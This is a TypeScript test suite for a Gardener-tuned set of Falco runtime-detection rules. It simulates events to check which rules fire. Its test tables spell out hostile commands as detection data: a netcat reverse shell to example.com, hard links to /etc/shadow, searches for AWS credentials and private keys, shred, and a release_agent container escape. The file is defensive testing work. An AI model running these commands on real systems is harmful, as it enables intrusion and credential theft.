import { existsSync, readFileSync } from "node:fs";
import { expect } from "chai";
import { parse } from "yaml";

const root = new URL("../../../", import.meta.url);
const rulesFile = new URL("profiles/rules/gardener/1.0.0/falco_rules.yaml", root);
const readme = new URL("profiles/rules/gardener/1.0.0/README.md", root);
const shared = new URL("../shared/data/", root);

type Key = "rule" | "macro" | "list" | "condition" | "output" | "desc" | "priority";
type Item = Partial<Record<Key, string> & Record<"items" | "tags", readonly string[]>>;
type Check = Readonly<{ kind: "check"; field: string; operator: string; values: readonly string[] }>;
type Chain<K> = Readonly<{ kind: K; parts: readonly Node[] }>;
type Not = Readonly<{ kind: "not"; part: Node }>;
type Macro = Readonly<{ kind: "macro"; name: string }>;
type Node = Chain<"and"> | Chain<"or"> | Not | Check | Macro;
type Event = Readonly<Record<string, string>>;
type Names = readonly { name: string; source?: string; plugin?: string; since?: string; codes?: readonly number[] }[];

/** The actions the event generator runs by default. Its names are the rules' names without blanks and signs. */
const actions = `ClearLogActivities CreateHardlinkOverSensitiveFiles CreateSymlinkOverSensitiveFiles
  DebugfsLaunchedInPrivilegedContainer DetectReleaseAgentFileContainerEscapes DirectoryTraversalMonitoredFileRead
  DisallowedSSHConnectionNonStandardPort DropAndExecuteNewBinaryInContainer ExecutionFromDevShm
  FilelessExecutionViaMemfdCreate FindAwsCredentials LaunchSuspiciousNetworkToolOnHost
  MountLaunchedInPrivilegedContainer NetcatRemoteCodeExecutionInContainer PacketSocketCreatedInContainer
  PtraceAntiDebugAttempt PtraceAttachedToProcess ReadSensitiveFileTrustedAfterStartup ReadSensitiveFileUntrusted
  RemoveBulkDataFromDisk RunShellUntrusted SearchPrivateKeysOrPasswords SystemUserInteractive`.split(/\s+/);
const squashed = (name: string): string => name.toLowerCase().replace(/[^a-z0-9]/g, "");

/** The stable set with its priorities and, for each rule, what the event generator or else an intruder does. */
const detected = `
Clear Log Activities | WARNING | @pod | truncate | /bin/event-generator run | file=/falco-event-generator-1/syslog
Contact K8S API Server From Container | NOTICE | @system | connect | /usr/bin/curl -k x |
Create Hardlink Over Sensitive Files | WARNING | @pod | linkat | /bin/ln -v /etc/shadow x | evt.arg.oldpath=/etc/shadow
Create Symlink Over Sensitive Files | WARNING | @pod | symlinkat | /bin/ln -s /etc x | evt.arg.target=/etc
Debugfs Launched in Privileged Container | WARNING | @pod | execve | /usr/bin/debugfs /dev/sda1 | container.privileged=true
Detect release_agent File Container Escapes | CRITICAL | @pod | truncate | /bin/sh -c x | file=/release_agent thread.cap_effective=CAP_SYS_ADMIN
Directory traversal monitored file read | WARNING | @pod | read | /bin/event-generator run | file=/etc/shadow fd.nameraw=/etc/../etc/../etc/shadow
Disallowed SSH Connection Non Standard Port | NOTICE | @pod | connect | /usr/bin/ssh -p 2222 x | fd.sip.name=example.com fd.sport=2222
Drop and execute new binary in container | CRITICAL | @pod | execve | /bin/falco-event-generator-x | proc.is_exe_upper_layer=true
Execution from /dev/shm | WARNING | @pod | execve | /bin/bash /dev/shm/example_script.sh | proc.name=example_script-
Fileless execution via memfd_create | CRITICAL | @pod | execve | memfd:program run helper.DoNothing | proc.is_exe_from_memfd=true
Find AWS Credentials | WARNING | @pod | execve | /usr/bin/find /tmp -maxdepth 1 -iname .aws/credentials |
Linux Kernel Module Injection Detected | WARNING | @pod | finit_module | /sbin/insmod x.ko |
Netcat Remote Code Execution in Container | WARNING | @pod | execve | /usr/bin/nc -e /bin/sh example.com 22 |
PTRACE anti-debug attempt | NOTICE | @pod | ptrace | /bin/event-generator run | evt.arg.request=PTRACE_TRACEME
PTRACE attached to process | WARNING | @pod | ptrace | /bin/event-generator run | evt.arg.request=PTRACE_ATTACH
Packet socket created in container | NOTICE | @pod | socket | /bin/event-generator run | evt.arg.domain=AF_PACKET
Read sensitive file trusted after startup | WARNING | @pod | read | /bin/event-generator run | file=/etc/shadow proc.name=httpd proc.duration=6000000000
Read sensitive file untrusted | WARNING | @pod | read | /bin/event-generator run | file=/etc/shadow
Redirect STDOUT/STDIN to Network Connection in Container | NOTICE | @pod | dup2 | /bin/sh -i | evt.rawres=0 fd.type=ipv4
Remove Bulk Data from Disk | WARNING | @pod | execve | /usr/bin/shred -u /tmp/x |
Run shell untrusted | NOTICE | @pod | execve | /bin/bash -c ls | proc.pname=httpd
Search Private Keys or Passwords | WARNING | @pod | execve | /usr/bin/find /tmp -maxdepth 1 -iname id_rsa |
System user interactive | INFO | @pod | execve | /bin/login | user.name=daemon
Terminal shell in container | NOTICE | @pod | execve | /bin/sh | proc.tty=34816 proc.pname=containerd-shim`;

/** Places and programs that a tuning covers, used in another way: the tuning must not hide it. */
const stillSeen = `
Contact K8S API Server From Container | @system | connect | /usr/local/bin/kube-proxy |
Contact K8S API Server From Container | @proxy | connect | /tmp/x |
Contact K8S API Server From Container | @proxy | connect | /usr/local/bin/kube-proxy | k8s.ns.name=default
Fileless execution via memfd_create | @pod | execve | memfd:runc_cloned:x | proc.is_exe_from_memfd=true proc.pexepath=/bin/sh
Read sensitive file untrusted | @node | read | /tmp/x | proc.name=kubelet file=/var/lib/kubelet/pki/key.pem
Read sensitive file untrusted | @pod | read | /opt/bin/kubelet | file=/var/lib/kubelet/pki/key.pem
Read sensitive file untrusted | @node | read | /usr/bin/sudo | file=/var/lib/kubelet/pki/key.pem
Read sensitive file untrusted | @system | read | /bin/cat | file=/host/etc/shadow
Read sensitive file untrusted | @pod | read | /bin/cat | file=/etc/shadow proc.name=su
Read sensitive file untrusted | @pod | read | /bin/cat | file=/etc/shadow proc.name=httpd proc.duration=1
Remove Bulk Data from Disk | @ebs | execve | /sbin/mkfs.ext4 /dev/x | proc.pexepath=/bin/sh
Run shell untrusted | @pod | execve | /bin/sh -c pgbackrest x; id | proc.pname=postgres`;

/** Ordinary work in a Gardener cluster: nothing may be reported. */
const silent = `
the kubelet reads its key | @node | read | /opt/bin/kubelet | file=/var/lib/kubelet/pki/key.pem
the node agent starts | @node | read | /opt/bin/gardener-node-agent | file=/var/lib/gardener-node-agent/credentials/kubeconfig
sshd checks a login | @node | read | /usr/sbin/sshd | file=/etc/shadow
systemd looks up an account | @node | read | /usr/lib/systemd/systemd-executor | file=/etc/shadow proc.name=9
the kubelet rotates logs | @node | truncate | /opt/bin/kubelet | file=/var/log/pods/a/b/0.log.tmp
a CSI driver formats a volume | @ebs | execve | /sbin/mkfs.ext4 /dev/x | proc.pexepath=/bin/aws-ebs-csi-driver
kube-proxy loads ipvs | @proxy | finit_module | /sbin/modprobe ip_vs |
kube-proxy watches services | @proxy | connect | /usr/local/bin/kube-proxy |
cilium-agent announces an address | @system | socket | /usr/bin/cilium-agent | evt.arg.domain=AF_PACKET container.image.repository=quay.io/cilium/cilium
runc starts a container | @node | execve | memfd:runc_cloned:x init | proc.is_exe_from_memfd=true proc.pexepath=/usr/bin/runc
a probe runs a shell | @pod | execve | /bin/sh -c nc -z -v my-service 80 | proc.pname=runc`;

const readJson = (name: string): unknown => JSON.parse(readFileSync(new URL(name, shared), "utf8"));
const text = readFileSync(rulesFile, "utf8");
const items = parse(text) as readonly Item[];
const rules = items.filter((item) => item.rule !== undefined);
const macros = new Map(items.flatMap(({ macro, condition = "" }) => (macro ? [[macro, condition]] : [])));
const lists = new Map(items.flatMap(({ list, items: members = [] }) => (list ? [[list, members]] : [])));
const hooks = [...macros].flatMap(([name, body]) => (body === "(never_true)" ? [name] : []));
const tunings = [...macros.keys()].filter((name) => /^(known_)?gardener_/.test(name));

const syntax = /"(?:\\.|[^"])*"|'(?:\\.|[^'])*'|[(),]|[<>!=]=|[<>=]|[^\s()"'=,<>!]+/g;
const tokensOf = (condition: string): readonly string[] => condition.match(syntax) ?? [];
const unquoted = (token: string): string => (/^["']/.test(token) ? token.slice(1, -1) : token);
const valuesOf = (token: string): readonly string[] => lists.get(token)?.flatMap(valuesOf) ?? [unquoted(token)];

/** A reader of the conditions in this one file: and, or, not, parentheses, checks, lists, one-argument transformers. */
function readCondition(condition: string): Node {
  const tokens = tokensOf(condition);
  let at = 0;
  const next = (): string => tokens[at++] ?? expect.fail(`unfinished: ${condition}`);
  const take = (token: string): void => void expect(next(), condition).to.equal(token);
  const chain = (kind: "and" | "or", part: () => Node): Node => {
    const first = part();
    const parts = [first];
    while (tokens[at] === kind) parts.push((at++, part()));
    return parts.length === 1 ? first : { kind, parts };
  };
  const or = (): Node => chain("or", () => chain("and", operand));
  const inside = <T>(content: () => T): T => {
    take("(");
    const value = content();
    take(")");
    return value;
  };
  const operand = (): Node => {
    if (tokens[at] === "(") return inside(or);
    const token = next();
    if (token === "not") return { kind: "not", part: operand() };
    if (token === "basename") return check(`${token}(${inside(next)})`);
    return token.includes(".") ? check(token) : { kind: "macro", name: token };
  };
  const check = (field: string): Node => {
    const operator = next();
    return { kind: "check", field, operator, values: operator === "in" ? inside(list) : [unquoted(next())] };
  };
  const list = (): readonly string[] => {
    const end = tokens.indexOf(")", at);
    const values = tokens.slice(at, end).filter((token) => token !== ",");
    at = end;
    return values.flatMap(valuesOf);
  };
  const node = or();
  expect(at, `rest of ${condition}`).to.equal(tokens.length);
  return node;
}

const macroNodes = new Map([...macros].map(([name, condition]) => [name, readCondition(condition)]));
const ruleNodes = new Map(rules.map(({ rule = "", condition = "" }) => [rule, expanded(readCondition(condition))]));

function expanded(node: Node): Node {
  if (node.kind === "macro") return expanded(macroNodes.get(node.name) ?? expect.fail(`macro ${node.name}`));
  if (node.kind === "not") return { kind: "not", part: expanded(node.part) };
  return node.kind === "check" ? node : { kind: node.kind, parts: node.parts.map(expanded) };
}

function leavesOf(node: Node): readonly Node[] {
  if (node.kind === "not") return leavesOf(node.part);
  return node.kind === "and" || node.kind === "or" ? node.parts.flatMap(leavesOf) : [node];
}

const checksIn = (node: Node): readonly Check[] => leavesOf(node).filter((leaf) => leaf.kind === "check");
const macrosIn = (condition: string): readonly string[] =>
  leavesOf(readCondition(condition)).flatMap((leaf) => (leaf.kind === "macro" ? leaf.name : []));
const allChecks = [...ruleNodes.values()].flatMap(checksIn);

/** The events a condition can match; undefined means all of them. */
function eventTypes(node: Node): readonly string[] | undefined {
  if (node.kind === "check") return node.field === "evt.type" ? node.values : undefined;
  if (node.kind === "and") return node.parts.map(eventTypes).find((types) => types !== undefined);
  const types = node.kind === "or" ? node.parts.map(eventTypes) : [undefined];
  return types.includes(undefined) ? undefined : types.flatMap((some) => some ?? []);
}

const comparisons: Readonly<Record<string, (actual: string, value: string) => boolean>> = {
  "=": (actual, value) => actual === value,
  "!=": (actual, value) => actual !== value,
  ">": (actual, value) => Number(actual) > Number(value),
  ">=": (actual, value) => Number(actual) >= Number(value),
  in: (actual, value) => actual === value,
  contains: (actual, value) => actual.includes(value),
  icontains: (actual, value) => actual.toLowerCase().includes(value.toLowerCase()),
  startswith: (actual, value) => actual.startsWith(value),
  endswith: (actual, value) => actual.endsWith(value),
  glob: (actual, value) => new RegExp(`^${value.replaceAll(".", "\\.").replaceAll("*", ".*")}$`).test(actual),
  regex: (actual, value) => new RegExp(value).test(actual),
};

const lastOf = (path: string): string => path.slice(path.lastIndexOf("/") + 1);

function holds(node: Node, event: Event): boolean {
  if (node.kind === "not") return !holds(node.part, event);
  if (node.kind === "and") return node.parts.every((part) => holds(part, event));
  if (node.kind === "or") return node.parts.some((part) => holds(part, event));
  if (node.kind === "macro") return expect.fail(`macro ${node.name} left`);
  const inner = /^basename\((.*)\)$/.exec(node.field)?.[1];
  const actual = inner === undefined ? event[node.field] : lastOf(event[inner] ?? "");
  const compare = comparisons[node.operator] ?? expect.fail(`operator ${node.operator}`);
  return actual !== undefined && node.values.some((value) => compare(actual, value));
}

const firstMatch = (event: Event): string => [...ruleNodes].find(([, node]) => holds(node, event))?.[0] ?? "nothing";

const from = (fields: string): Event =>
  Object.fromEntries([...fields.matchAll(/(\S+?)=(\S*)/g)].map(([, name = "", value = ""]) => [name, value]));
const systemPod = "container.id=1 k8s.ns.name=kube-system container.image.repository";
const places: Readonly<Record<string, string>> = {
  "@node": "container.id=host",
  "@pod": "container.id=1 k8s.ns.name=default container.image.repository=example/app",
  "@system": `${systemPod}=example/tool`,
  "@proxy": `${systemPod}=mirror.example:5000/registry.k8s.io/kube-proxy`,
  "@ebs": `${systemPod}=mirror.example/aws-ebs-csi-driver`,
};
const calls: Readonly<Record<string, string>> = {
  read: "evt.type=openat evt.is_open_read=true fd.typechar=f fd.num=3",
  truncate: "evt.type=openat evt.is_open_write=true evt.arg.flags=O_TRUNC|O_CREAT fd.typechar=f fd.num=3",
  connect:
    "evt.type=connect fd.typechar=4 fd.l4proto=tcp fd.sport=443 fd.sip.name=kubernetes.default.svc.cluster.local",
};

const rowsOf = (table: string): readonly string[] => table.trim().split("\n");

/** A row of a table: what it shows, where, the call, the program's command line, more fields. */
function scenario(row: string): readonly [title: string, line: string, event: Event] {
  const [title = "", place = "", call = "", line = "", more = ""] = row.split(/ ?\| ?/);
  const [exe = "", ...args] = line.split(" ");
  const program = `proc.exe=${exe} proc.exepath=${exe} proc.name=${lastOf(exe).slice(0, 15)} proc.tty=0 user.uid=0`;
  const { file = "", ...fields } = from(more);
  const about = `fd.name=${file} fd.nameraw=${file} fd.filename=${lastOf(file)} ${calls[call] ?? `evt.type=${call}`}`;
  const basics = from(`evt.num=7 evt.failed=false ${places[place] ?? ""} ${program} ${about}`);
  return [title, line, { ...basics, "proc.args": args.join(" "), ...fields }];
}
const scenarios = (table: string): readonly ReturnType<typeof scenario>[] => rowsOf(table).map(scenario);
const examples = scenarios(detected.replaceAll(/ \| (INFO|NOTICE|WARNING|CRITICAL)/g, ""));

describe("managed rules for Gardener", () => {
  it("has exactly the stable rules with their priorities", () => {
    const expected = rowsOf(detected).map((row) => row.split(" | ").slice(0, 2));
    expect(rules.map(({ rule, priority }) => [rule, priority])).to.have.deep.members(expected);
  });

  it("loads in every supported Falco: known keys, engine and plugin of 0.42, small", () => {
    const head = [
      { required_engine_version: "0.57.0" },
      { required_plugin_versions: [{ name: "container", version: "0.4.0" }] },
    ];
    expect(items.slice(0, 2)).to.deep.equal(head);
    const known = ["rule,desc,condition,output,priority,tags", "macro,condition", "list,items"];
    expect(known).to.include.members(items.slice(2).map((item) => Object.keys(item).join(",")));
    expect(Buffer.byteLength(text)).to.be.below(200 * 1024);
  });

  for (const { rule = "", desc = "", output = "", tags = [] } of rules)
    it(`describes and tags "${rule}"`, () => {
      expect(Math.min(desc.length, output.length)).to.be.above(40);
      expect(tags.join(" ")).to.match(/^maturity_stable (host|container) .*mitre_.* TA?\d{4}/);
    });

  it("defines every macro and list before its use, once, and uses all of them", () => {
    const defined = new Set<string>();
    const used = new Set<string>();
    for (const { macro, list, condition, items: members = [] } of items) {
      const words = [...tokensOf(condition ?? ""), ...members].filter((token) => lists.has(token));
      const names = condition === undefined ? words : [...words, ...macrosIn(condition)];
      expect([...defined], `what ${macro ?? list ?? ""} uses`).to.include.members(names);
      for (const name of names) used.add(name);
      const own = [macro, list].filter((name) => name !== undefined);
      expect(own.filter((name) => defined.has(name))).to.be.empty;
      for (const name of own) defined.add(name);
    }
    expect([...used]).to.have.members([...defined]);
  });

  it("keeps parentheses balanced when macros are put in, and list names out of quoted texts, as Falco replaces them", () => {
    const shapeOf = (condition: string): string =>
      tokensOf(condition).reduce((all, t) => all + (/^[()]$/.test(t) ? t : `(${shapeOf(macros.get(t) ?? "")})`), "");
    for (const { rule = "", condition = "" } of rules) {
      let shape = shapeOf(condition);
      while (shape.includes("()")) shape = shape.replaceAll("()", "");
      expect(shape, rule).to.equal("");
    }
    const quoted = items.flatMap(({ condition = "" }) => condition.match(/(["']).*?\1/g) ?? []);
    expect(quoted.flatMap((token) => token.split(/[\s(),="']/)).filter((word) => lists.has(word))).to.be.empty;
    expect([...lists.values()].flat().filter((item) => /[\s(),="']/.test(item))).to.be.empty;
  });

  it("uses no operator, modifier or field that is new in Falco 0.44 or deprecated", () => {
    expect(Object.keys(comparisons)).to.include.members(allChecks.map(({ operator }) => operator));
    expect(allChecks.filter(({ field }) => /^evt\.(dir|latency|wait_latency)/.test(field))).to.be.empty;
    const values = allChecks.flatMap((check) => check.values);
    expect(values.filter((value) => /^(one|any|all)of$/.test(value) || Buffer.byteLength(value) > 255)).to.be.empty;
  });

  it("gives each rule a hook of its own that is off", () => {
    const own = rules.map(({ condition = "" }) => macrosIn(condition).filter((name) => hooks.includes(name)));
    expect(own.every(({ length }) => length === 1) && new Set(own.flat()).size).to.equal(rules.length);
  });

  for (const name of tunings)
    it(`explains ${name}, ties it to processes and leaves registry prefixes open`, () => {
      expect(text).to.match(new RegExp(`\n# [^\n]{30,}(\n# [^\n]+)*\n- macro: ${name}\n`));
      const checks = checksIn(expanded({ kind: "macro", name }));
      const fields = checks.map(({ field }) => field).join(" ");
      if (name !== "gardener_seed_namespace") expect(fields).to.include("proc.");
      const images = checks.filter(({ field }) => field.startsWith("container.image"));
      if (images.length > 0) expect(fields).to.include("k8s.ns.name");
      const spelled = images.map(({ operator, values }) => `${operator} ${values.join(" ")}`);
      expect(spelled.filter((image) => !/^(endswith|contains) \/\S+$/.test(image))).to.be.empty;
    });

  it("documents every rule, hook and tuning in the README", () => {
    const documentation = readFileSync(readme, "utf8");
    for (const name of [...ruleNodes.keys(), ...hooks, ...tunings]) expect(documentation).to.include(name);
  });

  it("has a rule for every default action of the event generator", () => {
    const unknown = actions.filter((action) => ![...ruleNodes.keys()].map(squashed).includes(squashed(action)));
    expect(unknown).to.deep.equal(["LaunchSuspiciousNetworkToolOnHost", "MountLaunchedInPrivilegedContainer"]);
  });

  for (const [rule, line, event] of [...examples, ...scenarios(stillSeen)])
    it(`reports ${line} under "${rule}"`, () => void expect(firstMatch(event)).to.equal(rule));
  for (const [what, , event] of scenarios(silent))
    it(`is silent when ${what}`, () => void expect(firstMatch(event)).to.equal("nothing"));

  it("uses only fields and event parameters that Falco has", function () {
    if (!existsSync(shared)) this.skip();
    const fields = readJson("falco-fields.json") as Names;
    const { evtArgs } = readJson("falco-events.json") as { evtArgs: Names };
    const usable = fields.filter(({ source, plugin = "container" }) => source === "syscall" && plugin === "container");
    const parameters = evtArgs.filter(({ since }) => since === undefined).map(({ name }) => `evt.arg.${name}`);
    const used = allChecks.map(({ field }) => field.replace(/^\w+\((.*)\)$/, "$1"));
    const printed = rules.flatMap(({ output = "" }) =>
      [...output.matchAll(/%([^\s)[,]+)/g)].map(([, name]) => name ?? ""),
    );
    expect([...usable.map(({ name }) => name), ...parameters]).to.include.members([...used, ...printed]);
  });

  it("restricts every rule to events that every supported Falco knows", function () {
    if (!existsSync(shared)) this.skip();
    const { types } = readJson("falco-events.json") as { types: Names };
    const known = types.filter(({ codes, since }) => codes?.length && since === undefined).map(({ name }) => name);
    const restrictions = [...ruleNodes].map(([rule, node]) => ({ rule, events: eventTypes(node) ?? [] }));
    expect(restrictions.filter(({ events }) => events.length === 0 || !events.every((event) => known.includes(event))))
      .to.be.empty;
  });
});
